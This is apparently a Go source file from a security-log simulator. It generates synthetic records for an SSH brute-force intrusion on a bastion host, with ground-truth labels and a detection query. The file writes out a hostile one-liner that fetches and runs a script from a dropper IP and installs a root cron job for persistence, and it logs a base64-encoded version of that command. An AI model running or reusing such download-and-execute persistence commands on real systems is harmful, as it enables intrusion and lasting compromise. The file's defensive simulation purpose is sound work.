package demo

import (
	"encoding/base64"
	"fmt"
	"time"
)

// buildSSHBruteForce is story f: a password brute force against the
// internet-facing bastion guesses the deploy account, which may sudo; the
// intruder runs a base64-encoded dropper that installs a cron job calling
// home every 15 minutes.
func (w *world) buildSSHBruteForce(sd *storyData) {
	r := newRNG(w.seed, "story-ssh")
	o := w.org
	bastion := o.Host("bastion01")
	start := w.cfg.End.Add(-20 * time.Hour).UTC().Truncate(time.Hour).Add(-2*time.Hour + 37*time.Minute)
	t := start
	try := func(user string, invalid, ok bool) {
		t = t.Add(r.durIn(1500*time.Millisecond, 7*time.Second))
		sd.ssh = append(sd.ssh, sshEvent{t: t, host: bastion, srcIP: bruteIP, srcPort: 33000 + r.IntN(30000), user: user,
			invalid: invalid, ok: ok, method: "password", story: storySSH})
	}
	for _, u := range []struct {
		name    string
		invalid bool
		n       int
	}{{"admin", true, 36}, {"root", false, 42}, {"oracle", true, 18}, {"ubuntu", false, 22}, {"deploy", false, 27}} {
		for k := 0; k < u.n; k++ {
			try(u.name, u.invalid, false)
		}
	}
	try("deploy", false, true)
	login := t
	last := &sd.ssh[len(sd.ssh)-1]
	last.end = login.Add(21 * time.Minute)
	payload := fmt.Sprintf("curl -s http://%s/x.sh -o /tmp/.x.sh && chmod +x /tmp/.x.sh && /tmp/.x.sh && (crontab -l 2>/dev/null; echo \"*/15 * * * * /tmp/.x.sh >/dev/null 2>&1\") | crontab -", dropperIP)
	enc := base64.StdEncoding.EncodeToString([]byte(payload))
	sudoAt := login.Add(3*time.Minute + 12*time.Second)
	line := func(at time.Time, fac, sev, proc string, pid int, msg string) {
		sd.syslog = append(sd.syslog, syslogLine{t: at, host: bastion, facility: fac, severity: sev, proc: proc, pid: pid, msg: msg})
	}
	line(login.Add(40*time.Second), "authpriv", "notice", "sudo", 48211, "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id")
	line(sudoAt, "authpriv", "notice", "sudo", 48240, fmt.Sprintf("deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash -c echo %s | base64 -d | bash", enc))
	line(sudoAt.Add(4*time.Millisecond), "authpriv", "info", "sudo", 48240, "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1002)")
	line(sudoAt.Add(6*time.Second), "authpriv", "info", "sudo", 48240, "pam_unix(sudo:session): session closed for user root")
	line(sudoAt.Add(5*time.Second), "cron", "info", "crontab", 48297, "(root) REPLACE (root)")
	sd.flows = append(sd.flows, flowEvent{t: sudoAt.Add(time.Second), src: bastion, srcIP: bastion.IP, srcPort: 41822, dstIP: dropperIP, dstPort: 80,
		proc: &proc{img: w.img("/usr/bin/curl"), cmd: fmt.Sprintf("curl -s http://%s/x.sh -o /tmp/.x.sh", dropperIP), pid: 48251, start: sudoAt, id: w.rootID(bastion)},
		user: w.rootID(bastion), sent: 180, recv: 6_412, app: "web-browsing", fw: o.Firewall[0], natIP: bastion.Public, dur: 600 * time.Millisecond, story: storySSH})
	sd.truth = append(sd.truth, truth{story: storySSH, title: "SSH brute force on the bastion, sudo and a base64-encoded dropper",
		technique: "T1110.001, T1078.003, T1548.003, T1027, T1059.004, T1053.003, T1105", tactics: "CredentialAccess, InitialAccess, PrivilegeEscalation, DefenseEvasion, Execution, Persistence",
		description: fmt.Sprintf("%s guesses passwords for admin, root, oracle, ubuntu and deploy on bastion01 (SSH exposed as %s:22) until deploy's password works; deploy runs sudo /bin/bash -c 'echo <base64> | base64 -d | bash', which downloads /tmp/.x.sh from %s and installs a root cron job that runs it every 15 minutes. No alert fires.", bruteIP, bastion.Public, dropperIP),
		users:       []string{"deploy"}, accounts: []string{"deploy", "root"}, hosts: []string{bastion.Name}, ips: []string{bruteIP.String(), dropperIP.String()},
		files: []string{"/tmp/.x.sh"}, urls: []string{"http://" + dropperIP.String() + "/x.sh"}, start: start, end: w.cfg.End,
		tables: []string{"Syslog", "CommonSecurityLog", "VMConnection", "ThreatIntelligenceIndicator"},
		query:  `Syslog | where ProcessName == "sudo" and SyslogMessage has "base64 -d" | project TimeGenerated, Computer, SyslogMessage`})
	// cron runs the dropper every 15 minutes from then on; it calls home.
	first := sudoAt.Truncate(15 * time.Minute).Add(15 * time.Minute)
	for at := first; at.Before(w.cfg.End); at = at.Add(15 * time.Minute) {
		pid := 50000 + r.IntN(15000)
		line(at, "cron", "info", "CRON", pid, "(root) CMD (/tmp/.x.sh >/dev/null 2>&1)")
		sd.flows = append(sd.flows, flowEvent{t: at.Add(400 * time.Millisecond), src: bastion, srcIP: bastion.IP, srcPort: 42000 + r.IntN(20000), dstIP: dropperIP, dstPort: 443,
			proc: &proc{img: w.img("/tmp/.x.sh"), cmd: "/bin/sh /tmp/.x.sh", pid: uint32(pid + 1), start: at, id: w.rootID(bastion)},
			user: w.rootID(bastion), sent: int64(r.between(900, 2_400)), recv: int64(r.between(300, 900)), app: "ssl", fw: o.Firewall[0], natIP: bastion.Public,
			dur: r.durIn(time.Second, 4*time.Second), story: storySSH})
	}
}
